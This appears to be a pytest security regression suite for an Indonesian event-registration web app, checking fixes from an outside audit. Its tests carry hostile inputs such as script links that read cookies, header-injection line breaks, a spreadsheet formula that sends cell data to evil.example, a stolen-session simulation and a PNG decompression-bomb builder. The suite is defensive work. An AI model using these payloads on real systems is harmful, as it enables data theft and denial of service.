"""Every attack and fault an outside audit found, kept in the suite so it stays fixed."""

import pytest
from sqlalchemy import select

from eventapp.events.models import Event
from tests.conftest import post_form
from tests.factories import form_fields
from tests.test_events import _new_event_form


@pytest.fixture
def kotim(make_org, make_user):
    org = make_org()
    return {"org": org, "user": make_user(org)}


# --- Links and one-line fields -------------------------------------------------------------------


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(document.cookie)",
        " JaVaScRiPt:alert(1)",
        "data:text/html,<script>",
        "//evil.example",
    ],
)
def test_event_links_accept_only_web_addresses(client, login, db, kotim, link):
    login(kotim["user"])
    page = post_form(
        client, "/kelola/acara/baru?jenis=webinar", _new_event_form(map_url=link, online_url=link)
    )
    text = page.get_data(as_text=True)
    assert page.status_code == 200
    assert text.count("Tautan harus diawali https://") == 2
    assert "Webinar Literasi Digital" in text  # what was typed is kept
    assert db.session.scalar(select(Event)) is None


def test_a_line_break_in_a_one_line_field_is_refused_with_every_other_error(client, login, db, kotim):
    login(kotim["user"])
    form = _new_event_form(title="Webinar\r\nBcc: semua@contoh.id", online_url="https://zoom.us/j/1\nX:y")
    form["venue_capacity"] = "-5"
    text = post_form(client, "/kelola/acara/baru?jenis=webinar", form).get_data(as_text=True)
    assert text.count("tidak boleh berisi baris baru") == 2
    assert "Tidak boleh negatif." in text
    assert db.session.scalar(select(Event)) is None


def test_the_event_service_refuses_a_script_link_too(db, kotim, make_event):
    from eventapp.errors import ValidationFailed

    with pytest.raises(ValidationFailed) as error:
        make_event(kotim["org"], mode="daring", online_url="javascript:alert(1)", online_capacity=10)
    assert error.value.code == "url_scheme"


def test_kim_and_office_links_use_the_same_rule(client, login, kotim, make_kim):
    login(kotim["user"])
    kim = make_kim(kotim["org"])
    page = client.get(f"/kelola/kim/{kim.id}/ubah")
    assert page.status_code == 200
    from tests.conftest import csrf_token

    data = {
        "csrf_token": csrf_token(client, f"/kelola/kim/{kim.id}/ubah"),
        "name": kim.name,
        "registration_number": kim.registration_number,
        "website_url": "javascript:alert(1)",
        "youtube_url": "https://youtube.com/@kim",
    }
    text = client.post(f"/kelola/kim/{kim.id}/ubah", data=data).get_data(as_text=True)
    assert text.count("Tautan harus diawali https://") == 1


# --- Malformed input at the edges ----------------------------------------------------------------


def test_numbers_too_big_for_the_database_are_not_found_not_errors(client, login, kotim):
    huge = "9" * 20
    assert client.get(f"/kalender/organisasi/{huge}.ics").status_code == 404
    assert client.get(f"/acara?page={huge}&kabupaten={huge}&penyelenggara=-{huge}").status_code == 200
    login(kotim["user"])
    assert client.get(f"/kelola/acara/{huge}").status_code == 404
    assert client.get(f"/kelola/kim/?page={huge}&kabupaten=x{huge}").status_code == 200


def test_a_nul_byte_is_refused_with_a_page_not_a_crash(client, login, kotim):
    assert client.get("/acara?q=ab%00cd").status_code == 400
    login(kotim["user"])
    page = post_form(client, "/kelola/acara/baru?jenis=webinar", _new_event_form(title="Web\x00inar"))
    assert page.status_code == 400
    assert "Permintaan tidak dapat diproses" in page.get_data(as_text=True)
    assert client.get("/kelola/acara/").status_code == 200  # the next request is served normally


@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
def test_dates_outside_sensible_years_are_form_errors(client, login, db, kotim, day):
    login(kotim["user"])
    form = _new_event_form(day=day, registration_opens_at=f"{day}T08:00")
    page = post_form(client, "/kelola/acara/baru?jenis=webinar", form)
    assert page.status_code == 200
    assert page.get_data(as_text=True).count("Tahun harus antara 1900 dan 2100") == 2
    assert db.session.scalar(select(Event)) is None


def test_huge_capacities_are_form_errors(client, login, db, kotim):
    login(kotim["user"])
    form = _new_event_form(venue_capacity="99999999999999999999", online_capacity="3000000000")
    page = post_form(client, "/kelola/acara/baru?jenis=webinar", form)
    assert page.status_code == 200
    assert db.session.scalar(select(Event)) is None


# --- Exports never contain live formulas ---------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'


def _xlsx_cells(content: bytes) -> list:
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_exports_write_every_cell_as_a_value(client, login, kotim, make_event, make_kim):
    from eventapp.attendance import services as attendance
    from eventapp.dbtypes import utcnow
    from eventapp.registration import services as registration
    from tests.factories import arrived, registrant

    event = make_event(kotim["org"])
    make_kim(kotim["org"], name="+KIM " + FORMULA, decree_number="@SUM(1+1)")
    result = registration.register(event, registrant(name=FORMULA, institution="-2+3"), utcnow())
    attendance.check_in(
        kotim["user"], event, event.sessions[0], result.registration, arrived(event.sessions[0])
    )
    login(kotim["user"])
    for url in (
        f"/kelola/acara/{event.id}/peserta/ekspor.xlsx",
        f"/kelola/acara/{event.id}/presensi/matriks.xlsx",
        "/kelola/kim/ekspor.xlsx",
    ):
        cells = _xlsx_cells(client.get(url).data)
        assert not [cell for cell in cells if cell.data_type == "f"], url
        assert any(FORMULA in str(cell.value) for cell in cells), url
    for url in (f"/kelola/acara/{event.id}/peserta/ekspor.csv", "/kelola/kim/ekspor.csv"):
        text = client.get(url).data.decode("utf-8-sig")
        assert "'=HYPERLINK" in text or "'+KIM =HYPERLINK" in text, url
        for line in text.splitlines()[1:]:
            for dangerous in ("=", "+", "-", "@"):
                assert f",{dangerous}" not in line and not line.startswith(dangerous), (url, line)


# --- Sessions end with logout, password change and deactivation ----------------------------------


def _stolen_copy(client, app):
    """A second browser holding a copy of the first one's cookies (a captured session)."""
    thief = app.test_client()
    for cookie in client._cookies.values():
        thief.set_cookie(cookie.key, cookie.value, domain=cookie.domain, path=cookie.path)
    return thief


def test_a_captured_session_cookie_stops_working_after_logout(app, client, login, kotim):
    login(kotim["user"])
    thief = _stolen_copy(client, app)
    assert thief.get("/kelola/acara/").status_code == 200
    post_form(client, "/kelola/keluar", {}, form_url="/kelola/akun")
    assert thief.get("/kelola/acara/").status_code == 302  # back to the sign-in page


def test_changing_the_password_ends_other_sessions_and_remember_cookies(app, client, db, kotim):
    from tests.factories import PASSWORD

    user = kotim["user"]
    other_device = app.test_client()
    post_form(other_device, "/kelola/masuk", {"email": user.email, "password": PASSWORD, "remember": "y"})
    remember = other_device.get_cookie("remember_token")
    assert remember is not None
    assert other_device.get("/kelola/acara/").status_code == 200

    post_form(client, "/kelola/masuk", {"email": user.email, "password": PASSWORD})
    new = "kata-sandi-baru-yang-panjang"
    response = post_form(client, "/kelola/akun", {"current": PASSWORD, "password": new, "confirm": new})
    assert response.status_code == 302
    assert client.get("/kelola/acara/").status_code == 200  # this device stays signed in
    assert other_device.get("/kelola/acara/").status_code == 302
    only_remember = app.test_client()
    only_remember.set_cookie("remember_token", remember.value)
    assert only_remember.get("/kelola/acara/").status_code == 302


def test_an_admin_resetting_or_deactivating_an_account_signs_it_out(app, client, login, db, kotim, make_user):
    from eventapp.accounts import services as accounts
    from eventapp.accounts.models import Role

    login(kotim["user"])
    admin = make_user(None, role=Role.ADMIN)
    data = accounts.UserData(kotim["user"].email, "Pengguna Uji", Role.ORGANIZER, kotim["org"].id)
    accounts.update_user(admin, kotim["user"], data, "sandi-baru-dari-admin")
    assert client.get("/kelola/acara/").status_code == 302
    login(kotim["user"], "sandi-baru-dari-admin")
    data.active = False
    accounts.update_user(admin, kotim["user"], data, None)
    assert client.get("/kelola/acara/").status_code == 302


def test_remember_me_lasts_two_weeks_not_a_year(app):
    assert app.config["REMEMBER_COOKIE_DURATION"].days == 14


def test_signing_in_takes_as_long_for_unknown_addresses(client, kotim):
    """Scrypt runs for unknown e-mails too; before, they answered 15× faster."""
    import statistics
    import time

    def median_time(email):
        times = []
        for _ in range(3):
            start = time.perf_counter()
            post_form(client, "/kelola/masuk", {"email": email, "password": "salah-salah-salah"})
            times.append(time.perf_counter() - start)
        return statistics.median(times)

    known, unknown = median_time(kotim["user"].email), median_time("tidak-ada@example.org")
    assert unknown > known * 0.5, (known, unknown)


# --- Security headers ------------------------------------------------------------------------------


def test_every_page_sends_the_security_headers_and_personal_pages_are_not_cached(
    client, login, kotim, make_event
):
    from eventapp.dbtypes import utcnow
    from eventapp.registration import services as registration
    from tests.factories import registrant

    event = make_event(kotim["org"])
    token = registration.register(event, registrant(), utcnow()).registration.token
    for url in (f"/acara/{event.slug}", f"/p/{token}"):
        response = client.get(url)
        csp = response.headers["Content-Security-Policy"]
        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp
        assert "unsafe-inline" not in csp
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["Referrer-Policy"] == "same-origin"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Cache-Control"] == "no-store"
    login(kotim["user"])
    export = client.get(f"/kelola/acara/{event.id}/peserta/ekspor.csv")
    assert export.headers["Cache-Control"] == "no-store"
    assert "no-store" not in client.get("/static/css/app.css").headers.get("Cache-Control", "")


def test_no_template_has_inline_script_or_style():
    """The CSP allows neither; a page that used them would break in the browser."""
    import re
    from pathlib import Path

    templates = Path(__file__).parent.parent / "eventapp" / "templates"
    for path in templates.rglob("*.html"):
        if path.parent.name == "pdf":  # laid out by WeasyPrint, never served to a browser
            continue
        text = path.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=)", text), path
        assert not re.search(r"\sstyle=|<style|\son[a-z]+=", text), path


# --- The check-in desk stays within its office and its event -------------------------------------


def test_the_desk_does_not_reveal_another_offices_participants(
    client, login, kotim, make_org, make_user, make_event
):
    from eventapp.accounts.models import Role
    from eventapp.dbtypes import utcnow
    from eventapp.registration import services as registration
    from tests.factories import registrant

    ours = make_event(kotim["org"], title="Acara Kami")
    our_other = make_event(kotim["org"], title="Bimtek Kami Lainnya")
    theirs = make_event(
        make_org("Diskominfo Kota Palangka Raya", area="Kota Palangka Raya"), title="Acara Kota"
    )
    stranger = registration.register(theirs, registrant(name="Warga Kota Rahasia"), utcnow()).registration
    colleague = registration.register(our_other, registrant(name="Peserta Kami"), utcnow()).registration
    login(make_user(kotim["org"], role=Role.CHECKIN))
    desk = f"/kelola/acara/{ours.id}/presensi"
    for typed in (stranger.code, f"http://eventapp.test/p/{stranger.token}"):
        page = post_form(client, desk, {"code": typed}).get_data(as_text=True)
        assert "Kode tidak dikenal" in page
        assert "Warga Kota Rahasia" not in page and "Acara Kota" not in page
    page = post_form(client, desk, {"code": colleague.code}).get_data(as_text=True)
    assert "Kode ini untuk acara lain: Bimtek Kami Lainnya." in page


def test_the_desk_is_rate_limited_per_account(client, login, kotim, make_event, make_user):
    from eventapp.accounts.models import Role
    from tests.conftest import csrf_token

    event = make_event(kotim["org"])
    login(make_user(kotim["org"], role=Role.CHECKIN))
    desk = f"/kelola/acara/{event.id}/presensi"
    token = csrf_token(client, desk)
    statuses = [
        client.post(desk, data={"csrf_token": token, "code": f"AAA{n:04d}"}).status_code for n in range(125)
    ]
    assert statuses[:120] == [422] * 120
    assert statuses[120:] == [429] * 5


# --- Group registration proves the chair and hands out only new links ----------------------------


@pytest.fixture
def kim_with_chair(kotim, make_kim):
    return make_kim(kotim["org"], members=3, chair=True)


def test_public_facts_alone_do_not_open_group_registration(client, kotim, make_event, kim_with_chair):
    kim = kim_with_chair
    event = make_event(kotim["org"])
    url = f"/acara/{event.slug}/daftar-kelompok"
    facts = {"registration_number": kim.registration_number, "phone": kim.members[0].phone}
    for code in ("", "AAAAAAAA"):
        page = post_form(client, url, {**facts, "chair_code": code}).get_data(as_text=True)
        assert kim.members[1].name not in page
    members = {**facts, "chair_code": "AAAAAAAA", "members": [str(m.id) for m in kim.members]}
    members |= {"attendance_mode": "luring", "consent": "y", "register_members": "1"}
    assert post_form(client, url, members).status_code == 403


def test_group_result_never_shows_links_of_members_registered_before(
    client, db, kotim, make_event, kim_with_chair
):
    from eventapp.dbtypes import utcnow
    from eventapp.registration import services as registration
    from tests.factories import registrant

    kim = kim_with_chair
    event = make_event(kotim["org"])
    earlier = kim.members[1]
    own = registration.register(
        event, registrant(name=earlier.name, phone=earlier.phone, kim_id=kim.id), utcnow()
    ).registration
    url = f"/acara/{event.slug}/daftar-kelompok"
    form = {
        "registration_number": kim.registration_number,
        "phone": kim.members[0].phone,
        "chair_code": kim.chair_code,
        "members": [str(m.id) for m in kim.members],
        "attendance_mode": "luring",
        "consent": "y",
        "register_members": "1",
    }
    page = post_form(client, url, form).get_data(as_text=True)
    assert own.token not in page and own.code not in page
    assert "sudah terdaftar" in page
    assert page.count(">buka</a>") == 2  # the chair and the third member, just registered


def test_a_new_chair_code_replaces_the_old_one(client, login, kotim, make_event, kim_with_chair):
    kim = kim_with_chair
    old = kim.chair_code
    login(kotim["user"])
    assert old in client.get(f"/kelola/kim/{kim.id}").get_data(as_text=True)
    post_form(client, f"/kelola/kim/{kim.id}/kode-ketua", {}, form_url=f"/kelola/kim/{kim.id}")
    page = client.get(f"/kelola/kim/{kim.id}").get_data(as_text=True)
    assert old not in page
    post_form(client, "/kelola/keluar", {}, form_url="/kelola/akun")
    event = make_event(kotim["org"])
    facts = {"registration_number": kim.registration_number, "phone": kim.members[0].phone, "chair_code": old}
    page = post_form(client, f"/acara/{event.slug}/daftar-kelompok", facts).get_data(as_text=True)
    assert "tidak cocok" in page


def test_kim_numbers_and_phones_of_other_offices_are_not_revealed(
    client, login, kotim, make_org, make_user, make_kim
):
    other_office = make_org("Diskominfo Kota Palangka Raya", area="Kota Palangka Raya")
    theirs = make_kim(
        other_office,
        village="Kota Palangka Raya/Pahandut/Pahandut",
        registration_number="KIM-PKY-001",
        members=1,
    )
    login(kotim["user"])
    page = post_form(
        client,
        "/kelola/kim/baru",
        {
            "name": "KIM Baru",
            "registration_number": "KIM-PKY-001",
            "kabupaten": str(theirs.village.parent.parent.id),
        },
    )
    assert "KIM-PKY-001 sudah terdaftar" not in page.get_data(as_text=True)
    from eventapp.dbtypes import utcnow
    from eventapp.kim import services as kim_services

    ours = make_kim(kotim["org"], registration_number="KIM-PKY-001")  # each office numbers its own
    with pytest.raises(Exception) as error:
        kim_services.add_member(
            kotim["user"],
            ours,
            kim_services.MemberData(name="Orang Baru", gender="L", phone=theirs.members[0].phone),
            utcnow(),
        )
    assert "kantor lain" in str(error.value) and theirs.members[0].name not in str(error.value)


# --- Resource exhaustion by uploads and patterns -------------------------------------------------


def _png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims a huge picture, as a decompression bomb does."""
    import io
    import struct
    import zlib

    from PIL import Image

    buffer = io.BytesIO()
    Image.new("L", (1, 1)).save(buffer, format="PNG")
    data = bytearray(buffer.getvalue())
    ihdr = struct.pack(">II", width, height) + bytes(data[24:29])
    data[16:29] = ihdr
    data[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    return bytes(data)


@pytest.mark.parametrize("side", [9_500, 30_000])
def test_an_image_bomb_is_refused_by_its_size_in_pixels(client, login, db, kotim, side):
    import io

    login(kotim["user"])
    form = {**_new_event_form(), "poster": (io.BytesIO(_png_claiming(side, side)), "poster.png")}
    page = post_form(client, "/kelola/acara/baru?jenis=webinar", form, content_type="multipart/form-data")
    text = page.get_data(as_text=True)
    assert "Ukuran gambar terlalu besar: maksimal 8000 piksel per sisi" in text
    assert "harus berupa berkas PNG atau JPEG" not in text
    assert db.session.scalar(select(Event)) is None


def test_a_huge_sheet_is_refused_without_reading_it_whole():
    import io
    import tracemalloc

    import xlsxwriter

    from eventapp.errors import ValidationFailed
    from eventapp.tabular import read_rows

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"constant_memory": True, "in_memory": True})
    sheet = workbook.add_worksheet()
    for row in range(150_000):
        sheet.write_number(row, 0, row)
    workbook.close()
    content = buffer.getvalue()
    assert len(content) < 5 * 1024 * 1024  # under the upload limit: only the row cap stops it
    tracemalloc.start()
    with pytest.raises(ValidationFailed, match="Terlalu banyak baris: maksimal 10000"):
        read_rows("besar.xlsx", content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 8 * 1024 * 1024, f"{peak / 1e6:.1f} MB held while reading"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"nomor_induk,nama_kim\nKIM-1," + b"x" * 200_000 + b"\n", "baris 2: ada sel yang terlalu panjang"),
        (b'nomor_induk,nama_kim\nKIM-1,"tanpa penutup\r\nKIM-2,"\rx\n', "baris 3: ada ganti baris"),
    ],
)
def test_a_broken_csv_is_a_message_not_an_error(client, login, db, kotim, content, message):
    import io

    login(kotim["user"])
    page = post_form(
        client,
        "/kelola/kim/impor",
        {"file": (io.BytesIO(content), "kim.csv")},
        content_type="multipart/form-data",
    )
    assert page.status_code == 200
    assert f"Berkas CSV rusak di {message}" in page.get_data(as_text=True)


@pytest.mark.parametrize(
    ("pattern", "message"),
    [
        ("{seq:99999999999d}", "Lebar angka dalam pola paling banyak 12"),
        ("{seq:0999999999999999d}", "Lebar angka dalam pola paling banyak 12"),
        ("{seq:{tahun}}", "Lebar angka dalam pola paling banyak 12"),
        ("{seq:012d}/" + "SERTIFIKAT-" * 20, "terlalu panjang: maksimal 200 karakter"),
    ],
)
def test_a_number_pattern_cannot_build_huge_numbers(db, kotim, make_event, pattern, message):
    from eventapp.certificates import services as certificates
    from eventapp.errors import ValidationFailed

    with pytest.raises(ValidationFailed, match=message):
        certificates.check_pattern(pattern, "BIMTEK")


# --- Personal data: logs, replaced files, other offices' KIM --------------------------------------


def test_access_logs_keep_no_tokens_or_search_terms(app, caplog, kotim, make_event):
    import contextlib
    import logging
    import threading
    import urllib.request

    from werkzeug.serving import make_server

    from eventapp.dbtypes import utcnow
    from eventapp.registration import services as registration
    from tests.factories import registrant

    token = registration.register(make_event(kotim["org"]), registrant(), utcnow()).registration.token
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{server.server_port}"
    with caplog.at_level(logging.INFO, logger="werkzeug"):
        for path in (f"/p/{token}?baru=1", "/acara?q=081377770001", "/undangan/rahasia-undangan"):
            with contextlib.suppress(urllib.error.HTTPError):
                urllib.request.urlopen(base + path).read()
    server.shutdown()
    logged = "\n".join(record.getMessage() for record in caplog.records)
    assert "GET /p/… HTTP/1.1" in logged and "GET /acara HTTP/1.1" in logged
    assert token not in logged and "081377770001" not in logged and "rahasia-undangan" not in logged


def test_a_replaced_poster_or_logo_is_no_longer_served(client, login, db, kotim, make_event):
    import io

    from PIL import Image

    from eventapp.events import services as events
    from tests.test_events import _new_event_form

    def png(color):
        buffer = io.BytesIO()
        Image.new("RGB", (40, 40), color).save(buffer, format="PNG")
        return buffer.getvalue()

    login(kotim["user"])
    form = _new_event_form()
    post_form(
        client,
        "/kelola/acara/baru?jenis=webinar",
        {**form, "poster": (io.BytesIO(png("red")), "a.png")},
        content_type="multipart/form-data",
    )
    event = db.session.scalar(select(Event))
    first = event.poster_filename
    copy = events.duplicate_event(kotim["user"], event, event.sessions[0].starts_at.date())
    assert copy.poster_filename == first
    assert client.get(f"/unggahan/posters/{first}").status_code == 200
    post_form(
        client,
        f"/kelola/acara/{event.id}/ubah",
        {**form, "poster": (io.BytesIO(png("blue")), "b.png")},
        content_type="multipart/form-data",
    )
    db.session.refresh(event)
    assert event.poster_filename != first
    assert client.get(f"/unggahan/posters/{first}").status_code == 200  # the copy still shows it
    post_form(
        client,
        f"/kelola/acara/{copy.id}/ubah",
        {**form, "poster": (io.BytesIO(png("green")), "c.png")},
        content_type="multipart/form-data",
    )
    assert client.get(f"/unggahan/posters/{first}").status_code == 404


def test_a_kim_outside_the_offices_province_is_refused(db, kotim, make_event):
    from eventapp.accounts import services as accounts
    from eventapp.accounts.models import OrganizationLevel
    from eventapp.dbtypes import utcnow
    from eventapp.errors import ValidationFailed
    from eventapp.kim import services as kim_services
    from eventapp.regions.models import RegionLevel
    from eventapp.regions.services import children, find_child_by_name, import_regions
    from eventapp.registration import services as registration
    from tests.factories import registrant, system_actor

    import_regions("Kalimantan Selatan")
    province = find_child_by_name(None, RegionLevel.PROVINSI, "Kalimantan Selatan")
    banjar = find_child_by_name(province.id, RegionLevel.KABUPATEN, "Banjar")
    village = children(children(banjar.id)[0].id)[0]
    office = accounts.create_organization(
        None, accounts.OrganizationData("Diskominfo Banjar", OrganizationLevel.KABUPATEN_KOTA, banjar.id)
    )
    far_kim = kim_services.create_kim(
        system_actor(),
        office,
        kim_services.KimData(name="KIM Banjar", registration_number="B-1", village_id=village.id),
    )
    event = make_event(kotim["org"])
    with pytest.raises(ValidationFailed) as error:
        registration.register(event, registrant(kim_id=far_kim.id, institution=""), utcnow())
    assert error.value.code == "kim_unknown"


# --- Bots filling seats --------------------------------------------------------------------------


def _person(n: int) -> dict:
    return form_fields(f"Warga Desa {n}", f"0813{n:08d}")


def _registrations(db) -> int:
    from sqlalchemy import func

    from eventapp.registration.models import Registration

    return db.session.scalar(select(func.count(Registration.id)))


def test_a_bot_that_fills_the_hidden_field_or_posts_at_once_gets_no_seat(
    app, client, db, kotim, make_event, monkeypatch
):
    from tests.conftest import form_tokens

    monkeypatch.setitem(app.config, "FORM_MIN_FILL_SECONDS", 3)
    event = make_event(kotim["org"])
    url = f"/acara/{event.slug}/daftar"
    hasty = client.post(url, data={**form_tokens(client, url), **_person(1)}).get_data(as_text=True)
    assert "Formulir terkirim terlalu cepat" in hasty
    assert 'value="Warga Desa 1"' in hasty  # a person keeps what was typed and sends again
    tokens = form_tokens(client, url)
    monkeypatch.setitem(app.config, "FORM_MIN_FILL_SECONDS", 0)  # as if 3 seconds had passed
    filled_all = client.post(url, data={**tokens, **_person(2), "nickname": "bot"}).get_data(as_text=True)
    assert "Formulir tidak dapat diproses" in filled_all
    forged = client.post(url, data={**tokens, **_person(3), "shown_at": "form.AAAA.BBBB"}).get_data(
        as_text=True
    )
    assert "sudah kedaluwarsa" in forged
    assert _registrations(db) == 0
    assert client.post(url, data={**tokens, **_person(4)}).status_code == 302
    assert _registrations(db) == 1


def test_a_village_hall_on_one_address_registers_but_a_flood_is_stopped(
    app, client, db, kotim, make_event, monkeypatch
):
    import time

    from tests.conftest import form_tokens

    monkeypatch.setitem(app.config, "FORM_MIN_FILL_SECONDS", 3)
    event = make_event(kotim["org"], venue_capacity=150)
    url = f"/acara/{event.slug}/daftar"
    forms = [form_tokens(client, url) for _ in range(101)]  # 101 phones open the form ...
    time.sleep(3)  # ... and fill it in
    statuses = [client.post(url, data={**forms[n], **_person(n)}).status_code for n in range(101)]
    assert statuses[:100] == [302] * 100  # the whole hall, within one minute
    assert statuses[100] == 429
    assert _registrations(db) == 100


def test_the_same_contact_cannot_be_tried_over_and_over(client, db, kotim, make_event):
    event = make_event(kotim["org"])
    url = f"/acara/{event.slug}/daftar"
    statuses = [post_form(client, url, {**_person(7), "name": f"Nama {n}"}).status_code for n in range(11)]
    assert statuses[:10] == [302] + [200] * 9 and statuses[10] == 429  # then "sudah terdaftar"
    assert _registrations(db) == 1  # the same phone never gets a second registration


def test_organizers_cancel_spam_at_once_without_writing_to_it(client, login, db, kotim, make_event, mailbox):
    from eventapp.dbtypes import utcnow
    from eventapp.registration import services as registration
    from eventapp.registration.models import RegistrationStatus
    from tests.factories import registrant

    event = make_event(kotim["org"], venue_capacity=2)
    fakes = [
        registration.register(
            event,
            registrant(name=f"Bot {n}", phone=f"08130000000{n}", email=f"b{n}@x.id", notify_by="email"),
            utcnow(),
        )
        for n in range(2)
    ]
    waiting = registration.register(
        event,
        registrant(name="Ibu Sari", phone="081399990000", email="sari@desa.id", notify_by="email"),
        utcnow(),
    )
    assert waiting.registration.status == RegistrationStatus.WAITLISTED
    mailbox.clear()
    login(kotim["user"])
    list_url = f"/kelola/acara/{event.id}/peserta"
    ids = [str(f.registration.id) for f in fakes]
    response = post_form(client, f"{list_url}/spam", {"registration_ids": ids}, form_url=list_url)
    assert response.status_code == 302
    assert "2 pendaftaran dibatalkan sebagai spam" in client.get(response.headers["Location"]).get_data(
        as_text=True
    )
    db.session.refresh(waiting.registration)
    assert waiting.registration.status == RegistrationStatus.CONFIRMED
    assert [str(m["To"]) for m in mailbox] == ["sari@desa.id"]


def test_contact_verification_can_refuse_a_registration(client, db, kotim, make_event):
    from eventapp.errors import DomainError
    from eventapp.registration.services import checking_contact

    def unverified(event, phone, email, now):
        raise DomainError("Masukkan kode yang dikirim ke WhatsApp Anda.", "contact_unverified")

    event = make_event(kotim["org"])
    with checking_contact.connected_to(unverified):
        page = post_form(client, f"/acara/{event.slug}/daftar", _person(9)).get_data(as_text=True)
    assert "Masukkan kode yang dikirim ke WhatsApp Anda." in page
    assert _registrations(db) == 0


def test_an_office_id_typed_into_a_form_by_hand_is_refused_not_a_crash(client, login, make_user):
    import io

    from eventapp.accounts.models import Role

    login(make_user(None, role=Role.ADMIN, email="admin@kalteng.example"))
    upload = (io.BytesIO(b"nomor_induk,nama_kim\nKIM-1,KIM Satu\n"), "kim.csv")
    page = post_form(
        client,
        "/kelola/kim/impor",
        {"organization_id": "999999", "file": upload},
        content_type="multipart/form-data",
    )
    assert page.status_code == 200 and "Pilih organisasi pembina." in page.get_data(as_text=True)
